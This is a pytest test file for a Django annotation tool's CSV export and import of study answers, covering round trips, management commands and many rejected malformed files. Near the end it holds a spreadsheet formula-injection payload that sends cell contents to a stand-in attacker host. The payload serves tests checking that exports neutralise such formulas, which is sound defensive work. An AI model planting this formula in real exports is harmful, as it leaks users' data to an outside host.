"""Exporting a study's answers as CSV, and importing answers: round trip, class forms, errors."""

import csv
import io
from datetime import datetime

import pytest

from django.core.management import CommandError, call_command
from django.urls import reverse

from annotator.answers import save_answer
from annotator.models import Answer, AnswerHistory, Cohort, Participant
from annotator.answer_files import EXPORT_COLUMNS, export_answers, import_answers
from study.models import Study, StudySample
from study.operations import OperationError
from tests.factories import reading_study


@pytest.fixture
def reading(db):
    """Answers of an expert (one changed), a scholar and a simulated reader."""
    reading = reading_study("exchange", test_samples=5, train_samples=1)
    expert, scholar = reading.participant, reading.other_participant
    for number, class_index in enumerate([0, 4, 9]):
        save_answer(expert, expert.order()[number], class_index, 10 + number)
    save_answer(expert, expert.order()[0], 2, 1.25)
    save_answer(scholar, scholar.order()[3], 12, 20)
    robot = Participant.objects.create(
        study=reading.study, cohort=scholar.cohort, pseudonym="scholar-90", order_seed=5, simulated=True
    )
    for item in robot.order():
        save_answer(robot, item, 10, 0)
    return reading


@pytest.fixture
def second_study(reading):
    """A second study set over the same samples, in the reverse order."""
    study = Study.objects.create(name="exchange-again", dataset=reading.study.dataset, seed=1)
    items = list(reading.study.items.order_by("-position"))
    StudySample.objects.bulk_create(StudySample(study=study, sample=i.sample, position=n) for n, i in enumerate(items))
    return study


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def answers_of(study):
    """(pseudonym, sample id) -> everything an answer says, as stored."""
    return {
        (a.participant.pseudonym, a.item.sample.source_id): (
            a.participant.cohort.name,
            a.participant.simulated,
            a.class_index,
            a.answered_at,
            a.active_seconds,
            a.changes,
        )
        for a in Answer.objects.filter(participant__study=study).select_related("participant__cohort", "item__sample")
    }


def test_the_export_has_one_row_per_answer_with_the_agreed_columns(reading, tmp_path):
    path = tmp_path / "answers.csv"
    assert export_answers(reading.study, path) == 3 + 1 + 5
    with open(path, newline="", encoding="utf-8") as handle:
        assert next(csv.reader(handle)) == list(EXPORT_COLUMNS)
    rows = read_rows(path)
    assert len(rows) == 9
    label_set = reading.study.label_set
    participants = {p.pseudonym: p for p in reading.study.participants.all()}
    for row in rows:
        participant = participants[row["participant"]]
        item = participant.order()[int(row["position"]) - 1]
        answer = Answer.objects.get(participant=participant, item=item)
        assert row["study"] == "exchange"
        assert row["cohort"] == participant.cohort.name
        assert row["simulated"] == ("true" if participant.simulated else "false")
        assert row["sample"] == item.sample.source_id
        assert int(row["class_index"]) == answer.class_index
        assert row["class_name"] == label_set.by_index(answer.class_index).name
        assert row["answered_at"].endswith("Z")
        assert datetime.fromisoformat(row["answered_at"]) == answer.answered_at
        assert float(row["active_seconds"]) == answer.active_seconds
        assert int(row["changes"]) == answer.changes
    changed = [r for r in rows if r["participant"] == "expert-01" and r["position"] == "1"]
    assert changed[0]["class_index"] == "2" and changed[0]["changes"] == "1"


def test_the_download_button_gives_the_same_csv(client, reading):
    client.force_login(reading.coordinator)
    response = client.get(reverse("annotator:coordinator_export", args=[reading.study.name]))
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="exchange-answers.csv"'
    expected = io.StringIO()
    export_answers(reading.study, expected)
    assert response.content.decode() == expected.getvalue()


def test_an_export_imports_into_a_second_study_with_the_same_answers(reading, second_study, tmp_path):
    exported = tmp_path / "answers.csv"
    export_answers(reading.study, exported)
    assert import_answers(second_study, exported) == 9
    assert answers_of(second_study) == answers_of(reading.study)
    again = tmp_path / "again.csv"
    export_answers(second_study, again)

    def comparable(rows):
        return sorted(tuple(v for k, v in row.items() if k not in ("study", "position")) for row in rows)

    assert comparable(read_rows(again)) == comparable(read_rows(exported))
    imported = second_study.participants.get(pseudonym="expert-01")
    assert imported.user is None and imported.cohort.study == second_study
    assert second_study.participants.get(pseudonym="scholar-90").simulated


def test_it_accepts_class_names_keys_and_indices_and_creates_participants(reading, tmp_path):
    ids = list(reading.study.items.order_by("position").values_list("sample__source_id", flat=True))
    path = tmp_path / "paper.csv"
    path.write_text(
        "Participant, Cohort, Sample, Class, Notes\n"
        f"paper-1,novice,{ids[0]},nucleoli,first\n"
        f"paper-1,novice,{ids[1]},  Endoplasmic   reticulum ,\n"
        f"paper-1,novice,{ids[2]},7,\n"
    )
    assert import_answers(reading.study, path) == 3
    reader = reading.study.participants.get(pseudonym="paper-1")
    assert (reader.cohort.name, reader.simulated, reader.user) == ("novice", False, None)
    stored = {a.item.sample.source_id: a for a in reader.answers.select_related("item__sample")}
    assert [stored[i].class_index for i in ids[:3]] == [9, 3, 7]
    assert all(a.display_percentiles == {} and a.changes == 0 and a.active_seconds == 0 for a in stored.values())
    assert AnswerHistory.objects.filter(answer__participant=reader).count() == 3


def test_an_existing_participant_gets_the_answers_they_lack(reading, tmp_path):
    expert = reading.participant
    missing = expert.order()[4].sample.source_id
    path = tmp_path / "late.csv"
    path.write_text(f"participant,cohort,sample,class\nexpert-01,expert,{missing},Golgi apparatus\n")
    assert import_answers(reading.study, path) == 1
    assert expert.answers.count() == 4


def bad_files(ids, train_id):
    """(file content, the words its error must contain) for every kind of bad input."""
    header = "participant,cohort,sample,class\n"
    good = f"paper-1,novice,{ids[0]},1"

    def third_line(line: str) -> str:
        return f"{header}{good}\n{line}\n"

    def extra_column(name: str, *values: str) -> str:
        rows = [f"{good},{values[0]}", *(f"paper-1,novice,{ids[n]},1,{v}" for n, v in enumerate(values[1:], 1))]
        return f"participant,cohort,sample,class,{name}\n" + "\n".join(rows) + "\n"

    return [
        (b"", "line 1: the file is empty"),
        (f"participant,sample,class\n{good}\n", "line 1: no column cohort"),
        ("participant,cohort,sample\n", "line 1: no column class"),
        ("participant,cohort,sample,class,Class\n", "line 1, column 5: 'class' is named twice"),
        (header + "paper-1,novice,1\n", "line 2: 3 fields"),
        (header, "no answers after the first line"),
        (third_line("paper-1,novice,nope,1"), "line 3, column 3 (sample): 'nope' is not a sample"),
        (third_line(f"paper-1,novice,{train_id},1"), f"line 3, column 3 (sample): '{train_id}' is not a sample"),
        (third_line(f"paper-1,novice,{ids[1]},13"), "line 3, column 4 (class): class 13 is out of range"),
        (third_line(f"paper-1,novice,{ids[1]},-1"), "line 3, column 4 (class): class -1 is out of range"),
        (third_line(f"paper-1,novice,{ids[1]},Lysosomes"), "line 3, column 4 (class): 'Lysosomes' is not a class"),
        (third_line(f"paper-1,novice,{ids[1]},"), "line 3, column 4 (class): is empty"),
        (third_line(good), "line 3, column 3 (sample): paper-1 answers"),
        (third_line(f"paper-1,scholar,{ids[1]},1"), "column 2 (cohort): paper-1 is in cohort 'novice' on line 2"),
        (third_line(f"expert-01,scholar,{ids[4]},1"), "line 3, column 2 (cohort): expert-01 is in cohort 'expert'"),
        (third_line(f"expert-01,expert,{ids[0]},1"), "line 3, column 3 (sample): expert-01 has an answer"),
        (third_line(f"paper-2,two words,{ids[1]},1"), "line 3, column 2 (cohort): 'two words' is not a cohort"),
        (third_line(f",novice,{ids[1]},1"), "line 3, column 1 (participant): is empty"),
        (third_line(f'paper-1,novice,"{ids[1]},1'), "line 3: not valid CSV"),
        (f"{header}{good}\n\n\npaper-1,novice,{ids[1]},caf\u00e9\n", "line 5, column 4 (class)"),
        (f"{header}{good}\n".encode() + f"paper-1,novice,{ids[1]},caf\u00e9\n".encode("latin-1"), "line 3: byte 0xe9"),
        (extra_column("active_seconds", "-3"), "line 2, column 5 (active_seconds): '-3'"),
        (extra_column("answered_at", "yesterday"), "line 2, column 5 (answered_at): 'yesterday'"),
        (extra_column("changes", "1.5"), "line 2, column 5 (changes): '1.5'"),
        (extra_column("active_seconds", "1e308"), "line 2, column 5 (active_seconds): '1e308': expected a number of seconds from 0 to 86,400"),
        (extra_column("active_seconds", "inf"), "line 2, column 5 (active_seconds): 'inf'"),
        (extra_column("active_seconds", "nan"), "line 2, column 5 (active_seconds): 'nan'"),
        (extra_column("answered_at", "0001-01-01T00:00:00Z"), "line 2, column 5 (answered_at): '0001-01-01T00:00:00Z': expected a time from 2000 up to now"),
        (extra_column("answered_at", "2999-01-01T00:00:00Z"), "line 2, column 5 (answered_at): '2999-01-01T00:00:00Z'"),
        (extra_column("changes", "1" + "0" * 30), "line 2, column 5 (changes): '1000000000000000000000000000000': expected a whole number from 0 to 10,000"),
        (extra_column("changes", "\u00b2"), "line 2, column 5 (changes)"),
        (third_line(f"paper-1,novice,{ids[1]}," + "9" * 5000), "line 3, column 4 (class): class 9999"),
        (extra_column("simulated", "maybe"), "line 2, column 5 (simulated): 'maybe'"),
        (extra_column("simulated", "true", "false"), "line 3, column 5 (simulated): paper-1 is simulated on line 2"),
    ]


def table_sizes():
    return [model.objects.count() for model in (Answer, AnswerHistory, Participant, Cohort)]


def test_every_bad_file_is_refused_naming_the_line_and_nothing_is_written(reading, tmp_path):
    ids = list(reading.study.items.order_by("position").values_list("sample__source_id", flat=True))
    train_id = reading.study.dataset.samples.get(split="train").source_id
    before = table_sizes()
    for number, (content, words) in enumerate(bad_files(ids, train_id)):
        path = tmp_path / f"bad-{number}.csv"
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        with pytest.raises(OperationError) as caught:
            import_answers(reading.study, path)
        assert str(caught.value).startswith(f"{path}"), caught.value
        assert words in str(caught.value), (content, str(caught.value))
        assert table_sizes() == before, content


def test_importing_the_same_file_twice_is_refused(reading, second_study, tmp_path):
    path = tmp_path / "answers.csv"
    export_answers(reading.study, path)
    import_answers(second_study, path)
    with pytest.raises(OperationError, match="line 2, column 5 \\(sample\\): .* has an answer"):
        import_answers(second_study, path)
    assert Answer.objects.filter(participant__study=second_study).count() == 9


def test_the_commands_export_and_import(reading, second_study, tmp_path):
    out = io.StringIO()
    path = tmp_path / "nested" / "answers.csv"
    call_command("export_answers", reading.study.name, out=str(path), stdout=out)
    assert "Wrote 9 answers" in out.getvalue() and path.exists()
    call_command("import_answers", second_study.name, file=str(path), stdout=out)
    assert "Imported 9 answers into exchange-again" in out.getvalue()
    assert answers_of(second_study) == answers_of(reading.study)


@pytest.mark.parametrize(
    "command, study, option, words",
    [
        ("import_answers", "exchange", {"file": "missing.csv"}, "cannot read it"),
        ("import_answers", "no-such-study", {"file": "x.csv"}, "no study named 'no-such-study'"),
        ("export_answers", "no-such-study", {"out": "x.csv"}, "no study named 'no-such-study'"),
    ],
)
def test_the_commands_fail_with_a_clear_message(reading, tmp_path, command, study, option, words):
    option = {key: str(tmp_path / value) for key, value in option.items()}
    with pytest.raises(CommandError, match=words):
        call_command(command, study, **option)


def test_a_failed_import_command_says_nothing_was_imported(reading, tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text("participant,cohort,sample,class\npaper-1,novice,nope,1\n")
    with pytest.raises(CommandError, match="line 2, column 3 \\(sample\\).*Nothing was imported"):
        call_command("import_answers", reading.study.name, file=str(path))


FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def test_a_sample_id_that_would_start_a_formula_is_exported_as_text(reading, tmp_path):
    expert = reading.participant
    sample = expert.order()[0].sample
    sample.source_id = FORMULA
    sample.save()
    path = tmp_path / "answers.csv"
    export_answers(reading.study, path)
    rows = [row for row in read_rows(path) if row["participant"] == "expert-01"]
    assert rows[0]["sample"] == "'" + FORMULA
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    assert float(rows[0]["active_seconds"]) == Answer.objects.get(participant=expert, item__sample=sample).active_seconds


def test_an_export_with_neutralised_cells_imports_as_it_is(reading, second_study, tmp_path):
    sample = reading.participant.order()[0].sample
    sample.source_id = FORMULA
    sample.save()
    path = tmp_path / "answers.csv"
    export_answers(reading.study, path)
    import_answers(second_study, path)
    imported = Answer.objects.get(participant__study=second_study, participant__pseudonym="expert-01", item__sample=sample)
    assert imported.class_index == Answer.objects.get(participant=reading.participant, item__sample=sample).class_index
